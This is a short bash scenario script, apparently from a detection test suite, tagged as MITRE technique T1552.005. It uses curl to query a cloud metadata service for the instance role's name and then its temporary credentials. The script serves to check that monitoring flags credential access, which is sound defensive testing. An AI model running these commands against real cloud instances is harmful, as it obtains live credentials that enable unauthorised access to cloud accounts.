#!/usr/bin/env bash
# tactic: credential-access
# technique: T1552.005 Unsecured Credentials: Cloud Instance Metadata API
# behaviour: asks the cloud metadata service for the instance role's temporary credentials
# as: user
# needs: remote
# expect: credential_access, new_destination
set -u
role=$(curl -s -m 5 http://$SNTL_METADATA/latest/meta-data/iam/security-credentials/)
curl -s -m 5 "http://$SNTL_METADATA/latest/meta-data/iam/security-credentials/$role"
